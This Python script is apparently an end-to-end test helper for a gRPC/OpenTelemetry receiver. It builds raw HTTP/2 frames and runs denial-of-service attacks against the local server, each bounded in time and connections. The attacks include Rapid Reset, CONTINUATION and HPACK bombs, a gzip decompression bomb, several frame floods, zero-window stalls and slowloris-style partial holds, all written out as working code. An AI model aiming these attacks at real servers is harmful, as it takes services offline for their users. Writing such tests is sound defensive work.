#!/usr/bin/python3
# tests/e2e/h2_attack.py: the HTTP/2 attacks of the receiver's abuse tests
# (h2_abuse.test.js), written as raw frames with Debian's python3-hpack for
# header blocks. Loopback only; each bounded in time (--seconds) and in
# connections (--conns). Prints one JSON line when done:
#   {"attack": ..., "frames": n, "connects": n, "closed_by_server": n, "spans": n}
# ("spans": what complete Export calls it sent carried, for the accounting).
# SIGTERM ends partial_hold early (it then prints its line as usual).
import argparse
import errno
import json
import resource
import select
import selectors
import signal
import socket
import struct
import sys
import time

import hpack

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
    0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
EXPORT = '/opentelemetry.proto.collector.trace.v1.TraceService/Export'


def frame(ftype, flags, sid, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([ftype, flags]) + struct.pack('>I', sid) + payload


def settings(pairs=()):
    return frame(SETTINGS, 0, 0, b''.join(struct.pack('>HI', k, v) for k, v in pairs))


def plain_block(port):
    """An Export request's header block that leaves the dynamic table alone
    (static-table names, literals without indexing), so raw entries can be
    added around it."""
    def lit(idx, value):
        v = value.encode()
        return hpack_int(idx, 4, 0) + hpack_int(len(v), 7, 0) + v
    te = b'\x00' + hpack_int(2, 7, 0) + b'te' + hpack_int(8, 7, 0) + b'trailers'
    return (b'\x83\x86' + lit(4, EXPORT) + lit(1, f'127.0.0.1:{port}') +
            lit(31, 'application/grpc') + te)


def hpack_int(value, prefix_bits, first_byte_flags):
    """An HPACK integer (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = [first_byte_flags | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7f) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


class Conn:
    def __init__(self, port, initial=b'', window=None):
        self.sock = socket.create_connection(('127.0.0.1', port))
        self.sock.setblocking(False)
        self.next_id = 1
        self.pending = PREFACE + (settings([(4, window)]) if window is not None else settings()) + initial
        self.closed = False

    def queue(self, data):
        self.pending += data

    def pump(self, read=True):
        """Write what is pending, read and drop what came; False once closed."""
        if self.closed:
            return False
        try:
            while self.pending:
                n = self.sock.send(self.pending)
                self.pending = self.pending[n:]
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
            return False
        if read:
            try:
                while True:
                    d = self.sock.recv(65536)
                    if not d:
                        self.closed = True
                        return False
            except BlockingIOError:
                pass
            except OSError:
                self.closed = True
                return False
        return True

    def stream_id(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def raise_nofile(n):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, n + 64))
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


def flood(args, build, per_turn=64):
    """Connections that each send `build(conn)` frames as fast as the server
    takes them (or, with --rate, at most that many a second in all),
    reconnecting when closed, until --seconds pass."""
    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
    conns = []
    most = per_turn
    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline:
        if args.rate:
            allowed = int(args.rate * (time.monotonic() - start)) - stats['frames']
            per_turn = max(0, min(most, allowed // max(1, args.conns)))
        while len(conns) < args.conns:
            try:
                conns.append(Conn(args.port))
                stats['connects'] += 1
            except OSError:
                time.sleep(0.01)
                break
        for c in list(conns):
            if len(c.pending) < 1 << 20:
                for _ in range(per_turn):
                    c.queue(build(c))
                    stats['frames'] += 1
            if not c.pump():
                stats['closed_by_server'] += 1
                c.close()
                conns.remove(c)
        select.select([c.sock for c in conns], [c.sock for c in conns if c.pending], [], 0.001)
    for c in conns:
        c.close()
    return stats


def window_update_flood(args):
    # WINDOW_UPDATE of 1 on the connection, over and over (the window never
    # overflows: 2^31 of them would be needed).
    return flood(args, lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 1)))


def empty_data_flood(args):
    # One call opened, then DATA frames with no payload and no END_STREAM.
    def build(c):
        if getattr(c, 'open_sid', None) is None:
            c.open_sid = c.stream_id()
            return frame(HEADERS, END_HEADERS, c.open_sid, plain_block(args.port))
        return frame(DATA, 0, c.open_sid)
    return flood(args, build)


def priority_flood(args):
    # PRIORITY frames for idle streams, dependency 0, weight 16.
    def build(c):
        c.prio = getattr(c, 'prio', 0) % 1000 + 1
        return frame(PRIORITY, 0, 2 * c.prio + 1, struct.pack('>IB', 0, 15))
    return flood(args, build)


def server_reset_flood(args):
    # MadeYouReset's window-overflow shape: a call opened, then a
    # WINDOW_UPDATE that overflows its window, which the server answers
    # with RST_STREAM FLOW_CONTROL_ERROR (a reset of ours, not the client's).
    def build(c):
        sid = c.stream_id()
        return (frame(HEADERS, END_HEADERS, sid, plain_block(args.port)) +
                frame(WINDOW_UPDATE, 0, sid, struct.pack('>I', 0x7fffffff)))
    return flood(args, build)


def gzip_bomb(args):
    # Complete Export calls (grpc-encoding gzip) whose message inflates
    # from about 4 KB to --declare bytes of zeros (no valid request).
    import zlib
    z = zlib.compressobj(9, zlib.DEFLATED, 31)
    msg = z.compress(b'\0' * args.declare) + z.flush()
    body = b'\x01' + struct.pack('>I', len(msg)) + msg
    enc = b'\x00' + hpack_int(13, 7, 0) + b'grpc-encoding' + hpack_int(4, 7, 0) + b'gzip'

    def build(c):
        sid = c.stream_id()
        out = frame(HEADERS, END_HEADERS, sid, plain_block(args.port) + enc)
        for off in range(0, len(body), 16384):
            last = off + 16384 >= len(body)
            out += frame(DATA, END_STREAM if last else 0, sid, body[off:off + 16384])
        return out
    return flood(args, build, per_turn=1)


def rapid_reset(args):
    def build(c):
        sid = c.stream_id()
        block = plain_block(args.port)
        return frame(HEADERS, END_HEADERS, sid, block) + frame(RST_STREAM, 0, sid, struct.pack('>I', 8))
    return flood(args, build)


def continuation(args):
    # A header block that never ends: HEADERS without END_HEADERS, then
    # CONTINUATION frames of literal headers, never the last one.
    def build(c):
        if getattr(c, 'open_sid', None) is None:
            c.open_sid = c.stream_id()
            return frame(HEADERS, 0, c.open_sid, plain_block(args.port))
        lit = b''.join(b'\x00' + hpack_int(10, 7, 0) + b'x-padding-' + hpack_int(200, 7, 0) + b'a' * 200
                       for _ in range(70))
        return frame(CONTINUATION, 0, c.open_sid, lit)
    return flood(args, build, per_turn=8)


def header_list(args):
    # Requests whose decoded headers are far past any sane list size: one
    # header put in the dynamic table, then referenced 3,000 times (1 byte
    # each on the wire, ~4 KB decoded each time).
    def build(c):
        sid = c.stream_id()
        block = plain_block(args.port)
        if not getattr(c, 'primed', False):
            c.primed = True
            block += b'\x40' + hpack_int(8, 7, 0) + b'x-filler' + hpack_int(4000, 7, 0) + b'f' * 4000
        block += bytes([0x80 | 62]) * 3000      # the one dynamic entry, x-filler
        return frame(HEADERS, END_HEADERS | END_STREAM, sid, block)
    return flood(args, build, per_turn=16)


def hpack_bomb(args):
    # Alternating by connection: a literal declared 2^31 bytes long whose
    # bytes trickle in CONTINUATION frames, and an HPACK integer that never
    # ends (0x7f then 0xff forever).
    turn = [0]

    def build(c):
        if getattr(c, 'open_sid', None) is None:
            c.open_sid = c.stream_id()
            turn[0] += 1
            c.kind = turn[0] % 2 == 0
            head = plain_block(args.port)
            if c.kind:
                head += b'\x00' + hpack_int(6, 7, 0) + b'x-huge' + hpack_int(1 << 31, 7, 0)
            else:
                head += b'\x7f' + b'\xff' * 64
            return frame(HEADERS, 0, c.open_sid, head)
        return frame(CONTINUATION, 0, c.open_sid, (b'z' if c.kind else b'\xff') * 16384)
    return flood(args, build, per_turn=8)


def zero_window(args):
    # Window 0, then complete Export calls (a real request each), and the
    # connection is never read.
    body = open(args.body, 'rb').read() if args.body else b''
    msg = b'\x00' + struct.pack('>I', len(body)) + body
    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
    conns = []
    for _ in range(args.conns):
        c = Conn(args.port, window=0)
        stats['connects'] += 1
        for _ in range(args.calls):
            sid = c.stream_id()
            c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
            for off in range(0, len(msg), 16384):
                last = off + 16384 >= len(msg)
                c.queue(frame(DATA, END_STREAM if last else 0, sid, msg[off:off + 16384]))
            stats['frames'] += 2
            stats['spans'] += args.spans_per_call
        conns.append(c)
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        for c in conns:
            c.pump(read=False)
        time.sleep(0.05)
    for c in conns:
        c.close()
    return stats


def hold(args, send_preface):
    # Many connections that send the preface and SETTINGS (or nothing at
    # all), then say nothing more.
    raise_nofile(args.conns)
    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0}
    conns = []
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and len(conns) < args.conns:
        try:
            s = socket.create_connection(('127.0.0.1', args.port), timeout=2)
        except OSError as e:
            if e.errno in (errno.EMFILE, errno.ENFILE):
                break
            time.sleep(0.01)
            continue
        stats['connects'] += 1
        if send_preface:
            try:
                s.sendall(PREFACE + settings())
                stats['frames'] += 1
            except OSError:
                pass
        s.setblocking(False)
        conns.append(s)
    # epoll (selectors), not select(): thousands of fds, past FD_SETSIZE.
    sel = selectors.DefaultSelector()
    for s in conns:
        sel.register(s, selectors.EVENT_READ)
    while time.monotonic() < deadline:
        for key, _ in sel.select(0.2):
            s = key.fileobj
            try:
                if s.recv(65536):
                    continue
            except BlockingIOError:
                continue
            except OSError:
                pass
            stats['closed_by_server'] += 1
            sel.unregister(s)
            conns.remove(s)
            s.close()
    sel.close()
    for s in conns:
        s.close()
    return stats


class Framed(Conn):
    """A connection that reads the server's frames: ACKs its SETTINGS (its
    stream window applies only then) and notes the streams it reset."""

    def __init__(self, port):
        super().__init__(port)
        self.inbuf = b''
        self.ended = []

    def pump(self, read=True):
        if self.closed:
            return False
        try:
            while self.pending:
                n = self.sock.send(self.pending)
                self.pending = self.pending[n:]
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
            return False
        try:
            while True:
                d = self.sock.recv(65536)
                if not d:
                    self.closed = True
                    return False
                self.inbuf += d
        except BlockingIOError:
            pass
        except OSError:
            self.closed = True
            return False
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], 'big')
            if len(self.inbuf) < 9 + length:
                break
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], 'big') & 0x7fffffff
            self.inbuf = self.inbuf[9 + length:]
            if ftype == SETTINGS and not flags & ACK:
                self.pending += frame(SETTINGS, ACK, 0)
            elif ftype == RST_STREAM:
                # After an answer, too: a stream counts against the
                # server's concurrency until it is reset or both ends end.
                self.ended.append(sid)
        return True


def partial_hold(args):
    # Each connection keeps --streams calls open whose message declares
    # --declare bytes, of which --send are sent (inside the stream window),
    # then silence. A stream the server ends is opened again at once, a
    # connection it closes reconnected: whatever the server gives back is
    # taken again, so held partial messages are all the server ever sees.
    stats = {'frames': 0, 'connects': 0, 'closed_by_server': 0, 'spans': 0,
             'streams': 0, 'ended_by_server': 0, 'bytes': 0, 'held_peak': 0}
    prefix = b'\x00' + struct.pack('>I', args.declare)
    payload = prefix + b'\x0a' * (args.send - len(prefix))
    conns = []
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))

    def open_stream(c):
        sid = c.stream_id()
        c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
        for off in range(0, len(payload), 16384):
            c.queue(frame(DATA, 0, sid, payload[off:off + 16384]))
        c.open_streams.add(sid)
        stats['streams'] += 1
        stats['bytes'] += len(payload)
        stats['frames'] += 1 + (len(payload) + 16383) // 16384

    start = time.monotonic()
    deadline = start + args.seconds
    while time.monotonic() < deadline and not stop[0]:
        while len(conns) < args.conns:
            # --connect-rate: past the first --conns, at most that many
            # connections a second
            if args.connect_rate and stats['connects'] >= \
                    args.conns + args.connect_rate * (time.monotonic() - start):
                break
            try:
                c = Framed(args.port)
            except OSError:
                time.sleep(0.01)
                break
            c.open_streams = set()
            conns.append(c)
            stats['connects'] += 1
        for c in list(conns):
            while len(c.open_streams) < args.streams and c.next_id < (1 << 30):
                open_stream(c)
            if not c.pump():
                stats['closed_by_server'] += 1
                c.close()
                conns.remove(c)
                continue
            for sid in c.ended:
                if sid in c.open_streams:
                    c.open_streams.discard(sid)
                    stats['ended_by_server'] += 1
            c.ended = []
        held = sum(len(c.open_streams) for c in conns) * len(payload)
        stats['held_peak'] = max(stats['held_peak'], held)
        select.select([c.sock for c in conns], [c.sock for c in conns if c.pending], [], 0.05)
    for c in conns:
        c.close()
    return stats


def pipeline(args):
    # Not an attack: --calls complete Export calls sent at once on one
    # connection (more than the server's max_concurrent_streams), then
    # every answer read: grpc-status per call, or RST_STREAM
    # REFUSED_STREAM for the calls past the limit. Prints what came back
    # ("answered", "ok", "refused_stream", "unanswered").
    body = open(args.body, 'rb').read()
    msg = b'\x00' + struct.pack('>I', len(body)) + body
    c = Framed(args.port)
    dec = hpack.Decoder()
    sids = []
    for _ in range(args.calls):
        sid = c.stream_id()
        sids.append(sid)
        c.queue(frame(HEADERS, END_HEADERS, sid, plain_block(args.port)))
        for off in range(0, len(msg), 16384):
            last = off + 16384 >= len(msg)
            c.queue(frame(DATA, END_STREAM if last else 0, sid, msg[off:off + 16384]))
    status = {}
    refused = set()
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and len(status) + len(refused) < len(sids):
        try:
            while c.pending:
                n = c.sock.send(c.pending)
                c.pending = c.pending[n:]
        except BlockingIOError:
            pass
        select.select([c.sock], [c.sock] if c.pending else [], [], 0.05)
        try:
            d = c.sock.recv(65536)
            if not d:
                break
            c.inbuf += d
        except BlockingIOError:
            pass
        while len(c.inbuf) >= 9:
            length = int.from_bytes(c.inbuf[:3], 'big')
            if len(c.inbuf) < 9 + length:
                break
            ftype, flags = c.inbuf[3], c.inbuf[4]
            sid = int.from_bytes(c.inbuf[5:9], 'big') & 0x7fffffff
            payload = c.inbuf[9:9 + length]
            c.inbuf = c.inbuf[9 + length:]
            if ftype == SETTINGS and not flags & ACK:
                c.pending += frame(SETTINGS, ACK, 0)
            elif ftype == HEADERS:
                assert flags & END_HEADERS, 'the answers fit one HEADERS frame'
                for k, v in dec.decode(payload):
                    k = k.decode() if isinstance(k, bytes) else k
                    v = v.decode() if isinstance(v, bytes) else v
                    if k == 'grpc-status':
                        status[sid] = int(v)
            elif ftype == RST_STREAM and sid not in status:
                code = struct.unpack('>I', payload)[0]
                if code == 7:               # REFUSED_STREAM: not processed
                    refused.add(sid)
    c.close()
    ok = sum(1 for v in status.values() if v == 0)
    return {'frames': 2 * len(sids), 'connects': 1, 'closed_by_server': 0,
            'spans': ok * args.spans_per_call, 'answered': len(status), 'ok': ok,
            'refused_stream': len(refused),
            'unanswered': len(sids) - len(status) - len(refused)}


ATTACKS = {
    'pipeline': pipeline,
    'partial_hold': partial_hold,
    'rapid_reset': rapid_reset,
    'window_update_flood': window_update_flood,
    'empty_data_flood': empty_data_flood,
    'priority_flood': priority_flood,
    'server_reset_flood': server_reset_flood,
    'gzip_bomb': gzip_bomb,
    'continuation': continuation,
    'header_list': header_list,
    'hpack_bomb': hpack_bomb,
    'zero_window': zero_window,
    'preface_only': lambda a: hold(a, True),
    'idle': lambda a: hold(a, False),
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument('attack', choices=sorted(ATTACKS))
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--seconds', type=float, default=5)
    p.add_argument('--conns', type=int, default=4)
    p.add_argument('--calls', type=int, default=16, help='zero_window: calls per connection')
    p.add_argument('--body', help='zero_window: the request message (protobuf)')
    p.add_argument('--spans-per-call', type=int, default=0)
    p.add_argument('--streams', type=int, default=16, help='partial_hold: calls per connection')
    p.add_argument('--declare', type=int, default=4 << 20,
                   help='partial_hold: the message length each call declares')
    p.add_argument('--send', type=int, default=240 << 10,
                   help='partial_hold: the bytes of it sent, then silence')
    p.add_argument('--connect-rate', type=float, default=0,
                   help='partial_hold: at most this many reconnections a second')
    p.add_argument('--rate', type=float, default=0,
                   help='flood attacks: at most this many frames (gzip_bomb: calls) a second in all')
    args = p.parse_args()
    # The hand-built header block must be what it claims: Debian's HPACK
    # decoder reads it back first.
    got = hpack.Decoder().decode(plain_block(args.port))
    assert [(k.decode() if isinstance(k, bytes) else k) for k, _ in got] == \
        [':method', ':scheme', ':path', ':authority', 'content-type', 'te'], got
    stats = ATTACKS[args.attack](args)
    stats['attack'] = args.attack
    print(json.dumps(stats))
    sys.stdout.flush()


if __name__ == '__main__':
    main()
